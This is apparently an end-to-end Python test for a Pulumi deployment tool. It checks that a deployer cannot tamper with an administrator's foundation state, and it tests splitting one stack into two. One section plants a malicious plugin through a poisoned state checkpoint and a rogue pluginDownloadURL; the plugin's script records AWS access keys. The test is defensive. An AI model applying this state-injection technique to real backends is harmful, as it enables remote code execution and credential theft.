"""What an administrator declares is apart: the deployer cannot write its state, and what was one stack becomes two."""

from __future__ import annotations

import http.server
import io
import json
import shlex
import tarfile
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from botocore.exceptions import ClientError

from localaws import shell
from localaws.emulator import server
from rollback.config.naming import BREAK_GLASS, DRILL, GITHUB_OIDC_HOST, ROLES
from tests import asked, prepared
from tests.e2e.accounts_under_test import undeclared
from tests.e2e.estate_under_test import ADMIN, DAN, Person, Platform, Run, git
from tests.warm import Warm

pytestmark = pytest.mark.finding("S5")
ACCOUNT = "690000000005"
PATIENCE = 180.0
FOUNDATION = "dev-foundation"
UP = ("--yes", "--skip-preview", "--non-interactive")
# As the program was up to the first commit that has a foundation (e6102f6 and later ones): all in the stack `dev`.
TWO = "made = daily if stack == environment else foundation"
ONE = "made = lambda settings: (foundation(settings), daily(settings))"
# Then nobody asked who declares it.
CHECKED = "    refuse_others(settings)\n"
VICTIM = "administrators-own"


def engine(
    platform: Platform, *arguments: str, as_: Person, extra: Mapping[str, str | None] | None = None
) -> Run:
    return platform.command(["pulumi", *arguments], as_=as_, extra=extra).finish(PATIENCE)


# -- an attack -----------------------------------------------------------------------------------------------


@dataclass
class Evil:
    """Serves a plugin that writes down as whom it runs; `asked` are the paths that somebody wanted."""

    url: str
    ran: Path
    asked: list[str] = field(default_factory=list)

    def victims(self) -> list[str]:
        return self.ran.read_text().split() if self.ran.exists() else []


@contextmanager
def evil(folder: Path) -> Iterator[Evil]:
    ran = folder / "ran"
    script = f'#!/bin/sh\necho "$AWS_ACCESS_KEY_ID" >> {shlex.quote(str(ran))}\nexit 1\n'.encode()
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        entry = tarfile.TarInfo("pulumi-resource-evil")
        entry.size, entry.mode = len(script), 0o755
        archive.addfile(entry, io.BytesIO(script))
    served = Evil(url="", ran=ran)

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            served.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", str(len(packed.getvalue())))
            self.end_headers()
            self.wfile.write(packed.getvalue())

        def log_message(self, *_: Any) -> None:
            """Said by nobody."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as listening:
        served.url = f"http://127.0.0.1:{listening.server_port}"
        threading.Thread(target=listening.serve_forever, daemon=True).start()
        yield served
        listening.shutdown()


def injected(state: dict[str, Any], evil: Evil, account: str) -> dict[str, Any]:
    """The stack's checkpoint, with a provider of the attacker's own and a resource of it, a role that is not the
    stack's, and an operation that something has begun on it.
    """
    stack = "urn:pulumi:dev::rollback::"
    resources = state["checkpoint"]["latest"]["resources"]
    provider = {
        "urn": f"{stack}pulumi:providers:evil::evil",
        "custom": True,
        "id": "086684df-58c9-4320-ad31-2884a5afaa24",
        "type": "pulumi:providers:evil",
        "inputs": {
            "version": "1.0.0",
            "__internal": {"pluginDownloadURL": evil.url},
            "pluginDownloadURL": evil.url,
        },
        "outputs": {"version": "1.0.0"},
    }
    thing = {
        "urn": f"{stack}evil:index:Thing::thing",
        "custom": True,
        "id": "thing",
        "type": "evil:index:Thing",
        "provider": f"{provider['urn']}::{provider['id']}",
    }
    (aws,) = [one for one in resources if one["type"] == "pulumi:providers:aws"]
    role = {
        "urn": f"{stack}aws:iam/role:Role::{VICTIM}",
        "custom": True,
        "id": VICTIM,
        "type": "aws:iam/role:Role",
        "inputs": {"name": VICTIM, "assumeRolePolicy": "{}"},
        "outputs": {"name": VICTIM, "arn": f"arn:aws:iam::{account}:role/{VICTIM}", "assumeRolePolicy": "{}"},
        "provider": f"{aws['urn']}::{aws['id']}",
    }
    state["checkpoint"]["latest"]["resources"] = [*resources, provider, thing, role]
    state["checkpoint"]["latest"]["pending_operations"] = [{"resource": role, "type": "deleting"}]
    return state


def test_what_the_deployer_writes_into_a_state_never_runs_or_acts_as_the_administrator(
    declared: Platform, tmp_path_factory: pytest.TempPathFactory
) -> None:
    dev, names = declared, declared.settings.names
    theirs, iam = dev.client("s3", DAN), dev.root_client("iam")
    iam.create_role(RoleName=VICTIM, AssumeRolePolicyDocument="{}")
    key, apart = ".pulumi/stacks/rollback/dev.json", f".pulumi/stacks/rollback/{FOUNDATION}.json"
    before = dev.root_client("s3").get_object(Bucket=names.foundation_bucket, Key=apart)["Body"].read()

    with evil(tmp_path_factory.mktemp("evil")) as plugin:
        refused = _refused(theirs, names.foundation_bucket, apart)
        listed = engine(dev, "stack", "export", "--stack", FOUNDATION, as_=DAN, extra={
            "PULUMI_BACKEND_URL": dev.variables(ADMIN)["PULUMI_BACKEND_URL"],
        })  # fmt: skip
        state = json.loads(theirs.get_object(Bucket=names.state_bucket, Key=key)["Body"].read())
        planted = json.dumps(injected(state, plugin, dev.settings.account)).encode()
        theirs.put_object(Bucket=names.state_bucket, Key=key, Body=planted)
        downloads: dict[str, str | None] = {"PULUMI_DISABLE_AUTOMATIC_PLUGIN_ACQUISITION": None}
        unknowing = engine(dev, "up", "--stack", "dev", *UP, as_=ADMIN, extra=downloads)
        daily = [
            engine(dev, verb, "--stack", FOUNDATION, *options, as_=ADMIN, extra=downloads)
            for verb, options in (
                ("preview", ("--non-interactive", "--expect-no-changes")),
                ("refresh", UP),
                ("up", (*UP, "--expect-no-changes")),
            )
        ]
        of_the_administrator = plugin.asked[:], plugin.victims()
        own = engine(dev, "up", "--stack", "dev", *UP, as_=DAN, extra=downloads)

    assert set(refused) == {"AccessDenied"}, refused
    assert listed.code != 0
    assert unknowing.code != 0, (
        "an administrator's shell has the foundation's state, where there is no such stack"
    )
    assert "no stack named 'dev'" in unknowing.err + unknowing.out
    assert [run.code for run in daily] == [0, 0, 0], "\n".join(map(str, daily))
    assert of_the_administrator == ([], [])
    after = dev.root_client("s3").get_object(Bucket=names.foundation_bucket, Key=apart)["Body"].read()
    assert _resources(after) == _resources(before)
    assert own.code != 0
    assert plugin.asked, "or what was planted would prove nothing"
    assert set(plugin.victims()) == {dev.variables(DAN)["AWS_ACCESS_KEY_ID"]}, "it ran as its planter"
    assert iam.get_role(RoleName=VICTIM)["Role"]["RoleName"] == VICTIM


def _refused(s3: Any, bucket: str, key: str) -> list[str]:
    """What the deployer hears of every way to the foundation's state."""
    lock = f".pulumi/locks/organization/rollback/{FOUNDATION}/x.json"
    ways: list[Callable[[], Any]] = [
        lambda: s3.list_objects_v2(Bucket=bucket),
        lambda: s3.get_object(Bucket=bucket, Key=key),
        lambda: s3.put_object(Bucket=bucket, Key=key, Body=b"{}"),
        lambda: s3.delete_object(Bucket=bucket, Key=key),
        lambda: s3.put_object(Bucket=bucket, Key=lock, Body=b"{}"),
        lambda: s3.put_bucket_policy(Bucket=bucket, Policy="{}"),
    ]
    heard = []
    for way in ways:
        try:
            way()
        except ClientError as error:
            heard.append(error.response["Error"]["Code"])
        else:
            heard.append("allowed")
    return heard


def _resources(state: bytes) -> list[tuple[str, Any]]:
    found = json.loads(state)["checkpoint"]["latest"]["resources"]
    return sorted((one["urn"], one.get("id")) for one in found)


# -- one stack becomes two -----------------------------------------------------------------------------------


@contextmanager
def one_stack(folder: Path, warm: Warm) -> Iterator[Platform]:
    """An environment that an administrator has declared as one stack; the checkout is at today's program."""
    prepared.account()
    with server.running(auth=True, calls=asked.folder()) as emulator:
        platform = undeclared(emulator.endpoint, "dev", ACCOUNT, folder)
        platform.warm = warm
        program = platform.root / "components" / "environment.py"
        today = program.read_text()
        assert today.count(TWO) == today.count(CHECKED) == 1
        program.write_text(today.replace(TWO, ONE).replace(CHECKED, ""))
        # As an administrator did it then: the state was where the deployer's is.
        there = {
            "PULUMI_BACKEND_URL": shell.environment(emulator.endpoint, platform.settings)[
                "PULUMI_BACKEND_URL"
            ]
        }
        for arguments in (("stack", "select", "--create", "dev"), ("up", "--stack", "dev", *UP)):
            run = engine(platform, *arguments, as_=ADMIN, extra=there)
            assert run.code == 0, str(run)
        program.write_text(today)
        assert git(platform.root, "status", "--porcelain") == ""
        try:
            yield platform
        finally:
            platform.end()


@pytest.fixture(scope="module")
def one(warm: Warm, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    with one_stack(tmp_path_factory.mktemp("one-stack"), warm) as platform:
        yield platform


@dataclass
class Division:
    """What every step answers; none changes anything in the account."""

    platform: Platform
    runs: dict[str, Run] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self._untouched = account(self.platform)

    def step(self, name: str, run: Run) -> Run:
        assert account(self.platform) == self._untouched, f"{name} has changed the account\n{run}"
        self.runs[name] = run
        return run

    def engine(self, name: str, *arguments: str, as_: Person = ADMIN, **how: Any) -> Run:
        return self.step(name, engine(self.platform, *arguments, as_=as_, **how))

    def ours(self, name: str, *arguments: str, as_: Person = ADMIN) -> Run:
        return self.step(name, self.platform.rollback(*arguments, "--json", as_=as_, timeout=PATIENCE))

    def typed(self, adopted: Run) -> None:
        """The lines that were printed for the engine."""
        for line in adopted.json["commands"]:
            if line.startswith(("pulumi import", "pulumi preview")):
                self.step(line, self.platform.command(shlex.split(line), as_=ADMIN).finish(PATIENCE))

    def changes_nothing(self, stack: str, *, as_: Person) -> None:
        self.engine(stack, "up", "--stack", stack, "--expect-no-changes", *UP, as_=as_)


@pytest.fixture(scope="module")
def divided(one: Platform) -> dict[str, Run]:
    """Every step in the order of docs/getting-started.md, those that come too early or from others, and one cut short."""
    way = Division(one)
    way.engine("too early", "up", "--stack", "dev", *UP, as_=DAN)
    there = {"PULUMI_BACKEND_URL": one.variables(DAN)["PULUMI_BACKEND_URL"]}
    way.engine("too early, with too much power", "up", "--stack", "dev", *UP, extra=there)
    way.ours("no foundation", "foundation", "split")
    way.engine("init", "stack", "select", "--create", FOUNDATION)
    way.ours("nothing in the foundation", "foundation", "split")
    way.ours("the deployer adopts", "adopt", as_=DAN)
    adopted = way.ours("adopt", "adopt", "--foundation", "--write", "../adoption")
    half = one.folder / "half.json"
    half.write_text(json.dumps(_half(adopted.json["import"])))
    options = ("--generate-code=false", "--yes", "--non-interactive")
    way.engine("half", "import", "--stack", FOUNDATION, "--file", str(half), *options)
    way.ours("half in the foundation", "foundation", "split")
    way.typed(way.ours("the rest", "adopt", "--foundation", "--write", "../adoption"))
    way.changes_nothing(FOUNDATION, as_=ADMIN)
    way.ours("the deployer splits", "foundation", "split", as_=DAN)
    way.step("shown", one.rollback("foundation", "split", "--dry-run", as_=ADMIN, timeout=PATIENCE))
    way.ours("split", "foundation", "split")
    way.ours("split again", "foundation", "split")
    way.changes_nothing("dev", as_=DAN)
    way.engine("foundation again", "up", "--stack", FOUNDATION, "--expect-no-changes", *UP)
    return way.runs


def test_one_stack_becomes_two_by_the_lines_that_are_printed_and_nothing_in_the_account_changes(
    warm: Warm, tmp_path: Path
) -> None:
    with one_stack(tmp_path, warm) as platform:
        way = Division(platform)

        way.engine("init", "stack", "select", "--create", FOUNDATION)
        way.ours("nothing in the foundation", "foundation", "split")
        way.typed(way.ours("adopt", "adopt", "--foundation", "--write", "../adoption"))
        way.ours("split", "foundation", "split")
        way.changes_nothing("dev", as_=DAN)
        way.changes_nothing(FOUNDATION, as_=ADMIN)

        codes = {name: run.code for name, run in way.runs.items()}
        assert codes.pop("nothing in the foundation") == 3
        assert set(codes.values()) == {0}, "\n".join(f"{name}: {run}" for name, run in way.runs.items())
        assert len(way.runs["split"].json["forgotten"]) > 20


@pytest.mark.soak  # test_one_stack_becomes_two_by_the_lines_that_are_printed_and_nothing_in_the_account_changes; tests/unit/actions/adoption/test_foundation.py decides the others
def test_an_environment_that_was_one_stack_becomes_two_and_nothing_in_the_account_changes(
    one: Platform, divided: Mapping[str, Run]
) -> None:
    codes = {name: run.code for name, run in divided.items()}
    refusals = {name: codes.pop(name) for name in list(codes) if codes[name]}
    held = divided["split"].json["forgotten"]

    assert refusals.pop("too early") != 0
    assert refusals.pop("too early, with too much power") != 0
    assert refusals == {
        "no foundation": 2,
        "nothing in the foundation": 3,
        "the deployer adopts": 3,
        "half in the foundation": 3,
        "the deployer splits": 1,
    }
    assert codes.keys() >= {"adopt", "half", "the rest", FOUNDATION, "split", "dev", "foundation again"}
    assert len([name for name in codes if name.startswith("pulumi")]) == 2
    assert divided["shown"].out.splitlines()[: len(held)] == held
    assert len(held) > 20
    assert divided["split again"].json["forgotten"] == []


@pytest.mark.soak  # test_one_stack_becomes_two_by_the_lines_that_are_printed_and_nothing_in_the_account_changes; tests/unit/actions/adoption/test_foundation.py decides the others
def test_an_interrupted_import_is_finished_by_the_same_line(divided: Mapping[str, Run]) -> None:
    first, rest = (
        {one["urn"] for one in divided[name].json["resources"] if one["id"]} for name in ("adopt", "the rest")
    )

    assert rest < first
    assert {one["state"] for one in divided["the rest"].json["resources"]} == {"exists"}


@pytest.mark.soak  # test_one_stack_becomes_two_by_the_lines_that_are_printed_and_nothing_in_the_account_changes; tests/unit/actions/adoption/test_foundation.py decides the others
def test_each_stack_has_its_own_and_nothing_twice(one: Platform, divided: Mapping[str, Run]) -> None:
    kinds = {}
    for person, stack in ((ADMIN, FOUNDATION), (DAN, "dev")):
        state = json.loads(one.pulumi("stack", "export", "--stack", stack, as_=person))["deployment"]
        kinds[stack] = {item["type"] for item in state["resources"] if item["type"].startswith("aws:")}

    assert kinds["dev"] == {"aws:lambda/alias:Alias", "aws:ssm/parameter:Parameter"}
    assert kinds[FOUNDATION].isdisjoint(kinds["dev"])


def _half(imports: dict[str, Any]) -> dict[str, Any]:
    """What an import has done that was interrupted: the components, and the first half of the rest."""
    whole = [one for one in imports["resources"] if not one.get("component")]
    first = whole[: len(whole) // 2]
    kept = [one for one in imports["resources"] if one.get("component") or one in first]
    parents = {one.get("parent") for one in kept}
    table = {name: urn for name, urn in imports.get("nameTable", {}).items() if name in parents}
    return {**({"nameTable": table} if table else {}), "resources": kept}


def account(platform: Platform) -> dict[str, Any]:
    """All that the program declares, as the account has it."""
    settings = platform.settings
    iam, dynamodb, ssm, s3 = map(platform.root_client, ("iam", "dynamodb", "ssm", "s3"))
    names, bucket = settings.names, settings.names.audit_bucket(settings.account)
    roles = [names.role(role) for role in (*ROLES, BREAK_GLASS, DRILL)]
    provider = f"arn:aws:iam::{settings.account}:oidc-provider/{GITHUB_OIDC_HOST}"
    found: dict[str, Any] = {
        "provider": iam.get_open_id_connect_provider(OpenIDConnectProviderArn=provider),
        "policies": [
            (
                one,
                iam.get_policy_version(PolicyArn=one["Arn"], VersionId=one["DefaultVersionId"])[
                    "PolicyVersion"
                ],
            )
            for one in iam.list_policies(Scope="Local")["Policies"]
        ],
        "roles": [iam.get_role(RoleName=role)["Role"] for role in roles],
        "inline": [
            iam.get_role_policy(RoleName=role, PolicyName=name)["PolicyDocument"]
            for role in roles
            for name in iam.list_role_policies(RoleName=role)["PolicyNames"]
        ],
        "attached": [iam.list_attached_role_policies(RoleName=role)["AttachedPolicies"] for role in roles],
        "table": dynamodb.describe_table(TableName=names.deployments_table)["Table"],
        "recovery": dynamodb.describe_continuous_backups(TableName=names.deployments_table)[
            "ContinuousBackupsDescription"
        ]["ContinuousBackupsStatus"],
        "parameters": ssm.get_parameters_by_path(Path=names.parameter_path, Recursive=True)["Parameters"],
        "trail": [
            s3.get_bucket_versioning(Bucket=bucket)["Status"],
            s3.get_object_lock_configuration(Bucket=bucket)["ObjectLockConfiguration"],
            s3.get_bucket_encryption(Bucket=bucket)["ServerSideEncryptionConfiguration"],
            s3.get_public_access_block(Bucket=bucket)["PublicAccessBlockConfiguration"],
            s3.get_bucket_tagging(Bucket=bucket)["TagSet"],
        ],
        "aliases": platform.live(),
    }
    found["provider"].pop("ResponseMetadata")
    for role in found["roles"]:
        role.pop("RoleLastUsed", None)
    return found
